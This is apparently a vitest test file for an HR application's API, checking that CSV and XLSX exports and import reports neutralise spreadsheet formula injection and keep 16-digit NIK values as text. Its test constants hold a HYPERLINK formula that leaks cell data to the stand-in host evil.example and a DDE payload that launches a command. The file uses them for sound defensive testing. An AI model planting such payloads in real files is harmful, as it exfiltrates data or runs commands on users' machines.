import { parse as parseCsv } from "csv-parse/sync";
import readXlsxFile from "read-excel-file/node";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import writeXlsxFile, { type SheetData } from "write-excel-file/node";
import { testNik } from "../support/nik.ts";
import { bearer, DEMO, login, startStack, type TestStack } from "../support/stack.ts";
import { xlsxCells, xlsxStyleFormats } from "../support/xlsx.ts";

/**
 * Issue 11 A2: every CSV and XLSX the product writes is safe to open. Text a user typed —
 * an additional-data label (the operations role creates them), a cell of an uploaded file
 * echoed in the import report — never opens as a formula, and NIKs stay 16-digit text.
 */

let stack: TestStack;
let tokenAdmin: string;
let tokenOps: string;
let maju: number;
const API = "/api/main/v1";
const XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
const LABEL = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")';
const PAYLOAD = "=cmd|' /C calc'!A0";
const NIK = testNik(61_000_123);

beforeAll(async () => {
  stack = await startStack();
  const admin = await login(stack.app, DEMO.majuAdmin);
  tokenAdmin = admin.token;
  maju = admin.user.client_id;
  tokenOps = (await login(stack.app, DEMO.majuOps)).token;
});
afterAll(async () => {
  await stack?.close();
});

/** The first sheet of an XLSX as rows of values (read-excel-file's shape). */
async function rowsOf(buffer: Buffer): Promise<unknown[][]> {
  return (await readXlsxFile(buffer))[0]!.data as unknown[][];
}

/** Column letters of a zero-based index ("A", …, "Z", "AA", …). */
const letters = (index: number): string =>
  (index >= 26 ? letters(Math.floor(index / 26) - 1) : "") + String.fromCharCode(65 + (index % 26));

describe("employee export", () => {
  let agentId: number;
  beforeAll(async () => {
    // The operations role has the Additional Data menu: it can name a field anything.
    const field = await stack.app.inject({
      method: "POST",
      url: `${API}/agent-fields`,
      headers: bearer(tokenOps),
      payload: { key: "evil_label", label: LABEL, type: "text" },
    });
    expect(field.statusCode).toBe(201);
    const branch = await stack.owner.query<{ id: number }>(
      "INSERT INTO branches (client_id, code, name, status) VALUES ($1, 'XLS-01', 'Spreadsheet Branch', 'active') RETURNING id",
      [maju],
    );
    const created = await stack.app.inject({
      method: "POST",
      url: `${API}/agents`,
      headers: bearer(tokenAdmin),
      payload: {
        fullName: "Ekspor Aman",
        nik: NIK,
        phoneNumber: "081298765432",
        joinDate: "2024-01-15",
        contractType: "pkwt",
        branchId: branch.rows[0]!.id,
        customData: { evil_label: "-10 + 20" },
      },
    });
    expect(created.statusCode, created.body).toBe(201);
    agentId = created.json().data.id;
  });

  it("CSV: the field label in the header row and the typed value get a quote in front", async () => {
    const response = await stack.app.inject({
      url: `${API}/agents/export?format=csv&ids=${agentId}`,
      headers: bearer(tokenAdmin),
    });
    expect(response.statusCode).toBe(200);
    const [header, row] = parseCsv(response.body, { bom: true }) as string[][];
    expect(header).toContain(`'${LABEL}`);
    expect(header).not.toContain(LABEL);
    expect(row![header!.indexOf(`'${LABEL}`)]).toBe("'-10 + 20");
    // Digits are not touched: the CSV is the exact text.
    expect(row![header!.indexOf("NIK")]).toBe(NIK);
    expect(row![header!.indexOf("Phone Number")]).toBe("81298765432");
  });

  it("XLSX: the label is a Text string cell, never a formula; the NIK is 16-digit text", async () => {
    const response = await stack.app.inject({
      url: `${API}/agents/export?format=xlsx&ids=${agentId}`,
      headers: bearer(tokenAdmin),
    });
    expect(response.statusCode).toBe(200);
    const buffer = response.rawPayload;
    const [header, row] = await rowsOf(buffer);
    const labelAt = header!.indexOf(LABEL);
    const nikAt = header!.indexOf("NIK");
    expect(labelAt).toBeGreaterThan(0);
    expect(row![labelAt]).toBe("-10 + 20");
    expect(row![nikAt]).toBe(NIK);

    const cells = xlsxCells(buffer);
    const formats = xlsxStyleFormats(buffer);
    const formatOf = (xml: string) => formats[Number(/ s="(\d+)"/.exec(xml)?.[1] ?? 0)];
    for (const ref of [`${letters(labelAt)}1`, `${letters(labelAt)}2`, `${letters(nikAt)}2`]) {
      const xml = cells.get(ref)!;
      expect(xml, ref).toMatch(/ t="(s|inlineStr|str)"/);
      expect(xml, ref).not.toMatch(/<f[ >]/);
      // Text format: an edit of the cell (F2, Enter) keeps it text, too.
      expect(formatOf(xml), ref).toBe("@");
    }
  });
});

describe("import report", () => {
  async function upload(data: SheetData) {
    const response = await stack.app.inject({
      method: "POST",
      url: `${API}/agents/imports?kind=default&fileName=evil.xlsx`,
      headers: { ...bearer(tokenAdmin), "content-type": XLSX },
      payload: await writeXlsxFile(data).toBuffer(),
    });
    expect([200, 201]).toContain(response.statusCode);
    return response.json().data as { id: string; status: string };
  }
  const report = (id: string, format: "csv" | "xlsx") =>
    stack.app.inject({
      url: `${API}/agents/imports/${id}/report?format=${format}`,
      headers: bearer(tokenAdmin),
    });

  it("a formula as an unknown column header is echoed safely in CSV and XLSX", async () => {
    const view = await upload([
      [{ value: "fullName" }, { value: PAYLOAD }],
      [{ value: "Budi" }, { value: "x" }],
    ]);
    expect(view.status).toBe("invalid");

    const csv = parseCsv((await report(view.id, "csv")).body, { bom: true }) as string[][];
    const detail = csv.find((line) => line[0] === "1")![5]!;
    expect(detail.startsWith(`'${PAYLOAD}: Not a column of this template`)).toBe(true);
    for (const line of csv)
      for (const cell of line) expect(cell, JSON.stringify(line)).not.toMatch(/^[=+\-@\t\r]/);

    const buffer = (await report(view.id, "xlsx")).rawPayload;
    const echoed = (await rowsOf(buffer)).flat().filter((cell) => String(cell).includes(PAYLOAD));
    expect(echoed).toHaveLength(1);
    for (const [ref, xml] of xlsxCells(buffer)) expect(xml, ref).not.toMatch(/<f[ >]/);
  });
});
